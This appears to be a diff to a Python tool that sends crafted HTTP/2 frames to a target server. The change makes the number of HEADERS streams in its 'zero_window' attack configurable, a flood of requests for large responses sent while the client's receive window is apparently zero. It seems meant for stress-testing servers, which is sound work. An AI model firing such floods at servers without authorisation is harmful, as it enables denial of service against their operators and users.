@@ -19,6 +19,7 @@ import hpack
 DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
 ATTACK, ADDRESS, HOST = sys.argv[1:4]
 SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
+STREAMS = int(os.environ.get("STREAMS", 100))
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 MANY = 100_000
 
@@ -261,7 +262,7 @@ def over_the_limit(c):
 
 def zero_window(c):
     """Answers that may not be sent."""
-    c.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(path="/big/1000000")) for i in range(100)))
+    c.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(path="/big/1000000")) for i in range(STREAMS)))
     c.wait()
 
 
